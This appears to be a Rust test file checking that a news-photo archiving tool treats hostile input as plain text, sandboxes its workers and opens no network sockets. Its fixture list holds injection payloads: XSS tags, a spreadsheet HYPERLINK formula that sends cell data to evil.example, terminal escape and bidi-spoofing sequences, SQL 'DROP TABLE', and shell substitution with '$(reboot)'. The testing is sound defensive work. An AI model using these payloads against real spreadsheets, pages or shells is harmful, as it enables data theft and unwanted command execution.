//! Input and text that mean harm: what is refused, what is shown, what is never opened.

use std::process::Command;

use crate::world::World;

/// Texts that a terminal, a page, a spreadsheet or a database could take for more than text.
const STRINGS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</textarea><svg/onload=alert(1)>",
    "{{7*7}} ${7*7}",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;file:///etc/passwd\u{1b}\\AFP\u{1b}]8;;\u{1b}\\",
    "\u{9b}31mred",
    "\u{8}\u{8}\u{8}AFP",
    "Foto: \u{202e}retsueR\u{202c}",
    "\u{2066}KCNA\u{2069}",
    "'); DROP TABLE photos;--",
    "%s%n $(reboot) `id` | ls",
];

/// The strings above, and those that lie beside the project.
fn strings() -> Vec<String> {
    let mut all: Vec<String> = STRINGS.iter().map(|s| (*s).to_owned()).collect();
    let beside = std::env::var_os("CUTLINE_HOSTILE").map(std::path::PathBuf::from);
    if let Some(folder) = beside {
        let text = std::fs::read_to_string(folder.join("strings/captions.jsonl")).unwrap();
        let strings = text.lines().filter_map(|line| {
            // Lone surrogates are no text that a file could hold.
            let value: serde_json::Value = serde_json::from_str(line).ok()?;
            value["s"].as_str().map(str::to_owned)
        });
        all.extend(strings);
    }
    all
}

fn html(text: &str) -> String {
    let escaped = text.replace('&', "&amp;").replace('<', "&lt;");
    escaped.replace('"', "&quot;")
}

/// A page for each string, which stands in its title, caption, credit and outlet.
fn pages(world: &World, of: impl Fn(usize, &str) -> String) {
    for (n, text) in strings().iter().enumerate() {
        let text = html(&of(n, text));
        world.picture(&format!("in/p{n}_files/a.png"), n as u32 + 1);
        world.write(
            &format!("in/p{n}.html"),
            format!(
                "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>Harbour {text}</title>\
                 <meta property=\"og:site_name\" content=\"The {text} Ledger\">\
                 <meta property=\"article:published_time\" content=\"2024-06-12T08:00:00Z\"></head><body><article><h1>Harbour {text}</h1>\
                 <figure><img src=\"p{n}_files/a.png\" alt=\"\"><figcaption>{text} Boats enter the new harbour {text}, 11 June 2024. \
                 <span class=\"credit\">{text} (Photo: KCNA via Reuters {text})</span></figcaption></figure>\
                 <p>The harbour opened on Tuesday after three years of work, and the first boats came in at noon.</p></article></body></html>"
            ),
        );
    }
}

/// What a terminal would take as an order, or print in another direction than it stands.
fn orders(text: &str) -> Vec<char> {
    let harmful = |c: &char| {
        (c.is_control() && *c != '\n')
            || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    text.chars().filter(harmful).collect()
}

#[test]
fn no_text_of_an_input_is_taken_for_more_than_text() {
    let world = World::new();
    pages(&world, |_, text| text.to_owned());
    let ran = world.run(&["ingest", "in"]);
    assert!([0, 3].contains(&ran.code), "{}", ran.err);
    let commands: &[&[&str]] = &[
        &["flags", "--severity", "info"],
        &["search", "harbour"],
        &["matches"],
        &["pictures"],
        &["audit", "--by", "outlet"],
        &["parties", "--unknown"],
        &["show", "in/p0.html#1"],
        &["show", "in/p8.html"],
        &["review", "--history"],
    ];
    for command in commands {
        let table = world.run(command);
        assert_eq!(orders(&table.out), Vec::<char>::new(), "{command:?}");
        assert_eq!(orders(&table.err), Vec::<char>::new(), "{command:?}");
    }
    for command in &commands[..5] {
        let csv = world
            .run(&[command, &["--format", "csv"][..]].concat())
            .ok(0);
        let mut reader = csv::Reader::from_reader(csv.out.as_bytes());
        for record in reader.records() {
            for cell in &record.unwrap() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{command:?}: {cell}"
                );
            }
        }
        let json = world
            .run(&[command, &["--format", "jsonl"][..]].concat())
            .ok(0);
        assert_eq!(orders(&json.out), Vec::<char>::new(), "{command:?}");
        json.lines();
    }
    // JSON is lossless: every text comes back as it was printed, white space aside.
    let extracted = world.run(&["extract", "in"]);
    let captions: String = extracted
        .lines()
        .iter()
        .map(|l| l["caption"].to_string() + &l["credit_line"].to_string())
        .collect();
    let all = captions.replace("\\\\", "\\").replace("\\\"", "\"");
    for text in &STRINGS[..8] {
        assert!(all.contains(text), "{text} is not in {all}");
    }
}

#[test]
fn a_page_of_an_audit_has_no_element_that_a_text_brought_in() {
    let shape = |of: &dyn Fn(usize, &str) -> String| {
        let world = World::new();
        pages(&world, of);
        world.run(&["ingest", "in"]);
        let page = world
            .run(&["audit", "--by", "outlet", "--format", "html"])
            .ok(0)
            .out;
        elements(&page)
    };
    let hostile = shape(&|_, text| text.to_owned());
    let harmless = shape(&|n, _| format!("x{n}"));
    let names = |counted: &std::collections::BTreeMap<String, usize>| {
        counted.keys().cloned().collect::<Vec<_>>()
    };
    assert_eq!(names(&hostile), names(&harmless));
    for never in ["script", "img", "iframe", "a", "form", "link", "svg onload"] {
        assert!(!hostile.contains_key(never), "{never}");
    }
}

/// The names of a page's elements and of their attributes, counted: what a browser builds of it.
fn elements(page: &str) -> std::collections::BTreeMap<String, usize> {
    use html5ever::tokenizer::{
        BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer,
    };
    struct Count(std::cell::RefCell<std::collections::BTreeMap<String, usize>>);
    impl TokenSink for Count {
        type Handle = ();
        fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
            if let Token::TagToken(Tag {
                kind: TagKind::StartTag,
                name,
                attrs,
                ..
            }) = token
            {
                let mut all = self.0.borrow_mut();
                for attribute in &attrs {
                    *all.entry(format!("{name} {}", attribute.name.local))
                        .or_default() += 1;
                }
                *all.entry(name.to_string()).or_default() += 1;
            }
            TokenSinkResult::Continue
        }
    }
    let tokenizer = Tokenizer::new(
        Count(std::cell::RefCell::default()),
        html5ever::tokenizer::TokenizerOpts::default(),
    );
    let input = BufferQueue::default();
    input.push_back(page.into());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.into_inner()
}

#[test]
fn every_hostile_query_is_answered() {
    let world = World::new();
    world.write(
        "in/a.txt",
        "Boats in the harbour, 11 June 2024. (Photo: KCNA via Reuters)\n",
    );
    world.run(&["ingest", "in"]).ok(0);
    let mut queries: Vec<String> = [
        "\"",
        "\"\"\"",
        "AND",
        "a AND",
        "NEAR(a b, 99999999999)",
        "{a b}:c",
        "((((",
        "--",
        "-",
        "^a",
        "'",
        "rank",
    ]
    .iter()
    .map(|q| (*q).to_owned())
    .collect();
    queries.push("(".repeat(10_000));
    queries.push("a OR ".repeat(5_000));
    if let Some(folder) = std::env::var_os("CUTLINE_HOSTILE") {
        let text = std::fs::read_to_string(
            std::path::Path::new(&folder).join("strings/fts_queries.jsonl"),
        )
        .unwrap();
        queries.extend(text.lines().filter_map(|line| {
            let value: serde_json::Value = serde_json::from_str(line).ok()?;
            // No argument of a command holds NUL.
            value["q"].as_str().map(|q| q.replace('\0', ""))
        }));
    }
    for query in &queries {
        let short: String = query.chars().take(40).collect();
        let ran = world.run(&["search", "--", query]);
        assert_eq!(ran.code, 0, "{short}: {}", ran.err);
    }
}

#[test]
fn a_limit_is_set_by_its_name_and_recorded_by_its_reason() {
    let world = World::new();
    world.picture("in/a.png", 1);
    world.run(&["ingest", "--limit", "side=100", "in"]).ok(3);
    let reason = |world: &World| -> String {
        let sql = "SELECT reason FROM inputs";
        world.sql().query_row(sql, [], |r| r.get(0)).unwrap()
    };
    assert_eq!(reason(&world), "max-side");
    world
        .run(&["ingest", "--limit", "photo-bytes=10", "--reread", "in"])
        .ok(3);
    assert_eq!(reason(&world), "max-bytes");
    let refused = world.run(&["ingest", "--limit", "help", "in"]).ok(2);
    for (name, ..) in cutline::read::LIMITS {
        assert!(refused.err.contains(name), "{name}");
    }
}

#[test]
fn every_limit_stands_in_the_readme() {
    let readme = std::fs::read_to_string(crate::world::project("README.md")).unwrap();
    let limits = cutline::read::Limits::default();
    for (name, what, reason) in cutline::read::LIMITS {
        let value = limits.get(name).unwrap();
        let line = format!("| `{name}` | {what} | {value} | `{}` |", reason.word());
        assert!(readme.contains(&line), "the README lacks\n{line}");
    }
}

#[test]
fn the_name_of_each_input_is_written_before_it_is_read() {
    let world = World::new();
    world.picture("in/a.png", 1);
    world.write("in/b\u{202e}.txt", "Boats. (Photo: AP)\n");
    world.run(&["ingest", "--log", "names.txt", "in"]).ok(0);
    let mut names: Vec<String> = std::fs::read_to_string(world.path("names.txt"))
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect();
    names.sort();
    assert_eq!(names, ["in/a.png", "in/b\\u{202e}.txt"]);
}

#[cfg(unix)]
#[test]
fn worker_processes_read_first_and_the_archive_is_the_same() {
    let world = World::new();
    world.picture("in/p_files/a.png", 1);
    world.write(
        "in/a.txt",
        "Boats in the harbour, 11 June 2024. (Photo: KCNA via Reuters)\n",
    );
    world.write("in/b.jpg", b"\xff\xd8\xff\xe0");
    world.run(&["ingest", "in"]).ok(3);
    let wanted = world.dump();
    world
        .run(&["--db", "b.db", "ingest", "--isolate", "in"])
        .ok(3);
    assert!(wanted == world.dump_of("b.db"));
}

#[cfg(target_os = "linux")]
#[test]
fn a_marked_folder_is_read_by_workers_without_being_asked() {
    let world = World::new();
    for (n, name) in ["own/a.png", "from-outside/a.png", "from-outside/2024/b.png"]
        .iter()
        .enumerate()
    {
        world.picture(&format!("in/{name}"), n as u32 + 1);
    }
    world.write("in/from-outside/.cutline-untrusted", "");
    let read = |archive: &str, path: &str| {
        // No worker can read anything within this limit, which binds nobody else.
        let limit = ["ingest", "--limit", "memory=1", path];
        world.run(&[&["--db", archive][..], &limit].concat());
        let conn = rusqlite::Connection::open(world.path(archive)).unwrap();
        let mut rows = conn
            .prepare("SELECT path || ' ' || status FROM inputs ORDER BY path")
            .unwrap();
        let found = rows.query_map([], |r| r.get::<_, String>(0)).unwrap();
        found.map(Result::unwrap).collect::<Vec<_>>()
    };
    assert_eq!(
        read("a.db", "in"),
        [
            "in/from-outside/.cutline-untrusted skipped",
            "in/from-outside/2024/b.png failed",
            "in/from-outside/a.png failed",
            "in/own/a.png ok"
        ]
    );
    // The mark lies above what is named.
    assert_eq!(
        read("b.db", "in/from-outside/2024"),
        ["in/from-outside/2024/b.png failed"]
    );
    world
        .run(&["--db", "c.db", "ingest", "in/from-outside/2024"])
        .ok(0);
}

#[cfg(target_os = "linux")]
#[test]
fn what_ends_a_worker_is_named_and_the_others_are_read() {
    let world = World::new();
    world.picture("in/a.png", 1);
    world.picture("in/z.png", 2);
    // Nine thousand by nine thousand pixels in colour: within every limit but the one on a worker's memory.
    let file = std::fs::File::create(world.path("in/m.png")).unwrap();
    let mut encoder = png_of(file, 9_000, 9_000);
    let row = vec![7_u8; 27_000];
    for _ in 0..9_000 {
        std::io::Write::write_all(&mut encoder, &row).unwrap();
    }
    encoder.finish().unwrap();
    let ran = world
        .run(&["ingest", "--isolate", "--limit", "memory=150000000", "in"])
        .ok(3);
    assert!(
        ran.err.contains("in/m.png") || ran.out.contains("in/m.png"),
        "{}{}",
        ran.out,
        ran.err
    );
    let conn = world.sql();
    let mut rows = conn
        .prepare("SELECT coalesce(reason, status) FROM inputs ORDER BY path")
        .unwrap();
    let found: Vec<String> = rows
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(found, ["ok", "max-memory", "ok"]);
}

/// A zlib stream of stored rows inside a PNG, written piece by piece.
#[cfg(target_os = "linux")]
fn png_of(file: std::fs::File, width: u32, height: u32) -> PngWriter {
    PngWriter {
        file,
        width,
        height,
        stream: flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast()),
    }
}

#[cfg(target_os = "linux")]
struct PngWriter {
    file: std::fs::File,
    width: u32,
    height: u32,
    stream: flate2::write::ZlibEncoder<Vec<u8>>,
}

#[cfg(target_os = "linux")]
impl std::io::Write for PngWriter {
    fn write(&mut self, row: &[u8]) -> std::io::Result<usize> {
        self.stream.write_all(&[0])?;
        self.stream.write_all(row)?;
        Ok(row.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[cfg(target_os = "linux")]
impl PngWriter {
    fn finish(mut self) -> std::io::Result<()> {
        use std::io::Write as _;
        let mut head = self.width.to_be_bytes().to_vec();
        head.extend(self.height.to_be_bytes());
        head.extend([8, 2, 0, 0, 0]);
        let data = self.stream.finish()?;
        self.file.write_all(b"\x89PNG\r\n\x1a\n")?;
        let mut write = |kind: &[u8], data: &[u8]| {
            let mut crc = flate2::Crc::new();
            crc.update(kind);
            crc.update(data);
            self.file.write_all(&(data.len() as u32).to_be_bytes())?;
            self.file.write_all(kind)?;
            self.file.write_all(data)?;
            self.file.write_all(&crc.sum().to_be_bytes())
        };
        write(b"IHDR", &head)?;
        write(b"IDAT", &data)?;
        write(b"IEND", &[])
    }
}

#[cfg(target_os = "linux")]
#[test]
fn no_command_but_the_desk_opens_a_socket() {
    const CALLS: [&str; 3] = ["socket", "connect", "bind"];
    let world = World::new();
    world.picture("in/p_files/a.png", 1);
    world.write(
        "in/p.html",
        "<!doctype html><title>x</title><link rel=canonical href=https://ledger.example/x><article><h1>Harbour</h1><figure>\
         <img src=http://127.0.0.1:9/a.png><figcaption>Boats. (Photo: AP)</figcaption></figure></article>",
    );
    let commands: &[&[&str]] = &[
        &["ingest", "in"],
        &["ingest", "--isolate", "--reread", "in"],
        &["extract", "in"],
        &["metadata", "in/p_files/a.png"],
        &["check", "in/p_files/a.png"],
        &["find", "in/p_files/a.png"],
        &["flags"],
        &["audit", "--format", "html"],
        &["export", "--to", "out"],
        &["verify"],
        &["backup", "b.db"],
        &["rederive"],
    ];
    for command in commands {
        let ran = Command::new("strace")
            .args([
                "-f",
                "-qq",
                "-e",
                &format!("trace={}", CALLS.join(",")),
                "-o",
                "calls.txt",
                env!("CARGO_BIN_EXE_cutline"),
            ])
            .args(*command)
            .current_dir(world.path(""))
            .env("CUTLINE_DB", "a.db")
            .output();
        let Ok(ran) = ran else {
            eprintln!("notice: skipped, strace is not installed");
            return;
        };
        let said = String::from_utf8_lossy(&ran.stderr).into_owned();
        if said.contains("ptrace") || !world.path("calls.txt").exists() {
            eprintln!("notice: skipped, strace may not trace here: {said}");
            return;
        }
        let calls = std::fs::read_to_string(world.path("calls.txt")).unwrap();
        // strace also writes lines of its own, of a process it let go of before it knew the call ("???( <detached ...>").
        let opened: Vec<&str> = calls
            .lines()
            .filter(|line| CALLS.iter().any(|call| line.contains(&format!("{call}("))))
            .collect();
        assert!(opened.is_empty(), "{command:?}: {opened:?}");
    }
}

/// The whole generated set, where it lies beside the project: nothing ends the run, and every file is recorded.
#[test]
fn the_generated_set_is_read_to_its_end() {
    let Some(folder) = std::env::var_os("CUTLINE_HOSTILE").map(std::path::PathBuf::from) else {
        eprintln!("notice: skipped, CUTLINE_HOSTILE names no folder of generated inputs");
        return;
    };
    let world = World::new();
    let ran = world.run(&["ingest", &folder.to_string_lossy()]);
    assert!([0, 3].contains(&ran.code), "{}", ran.err);
    let mut files = 0;
    let mut folders = vec![folder];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else {
                files += 1;
            }
        }
    }
    assert!(
        world.count("inputs") >= files,
        "{} of {files}",
        world.count("inputs")
    );
}
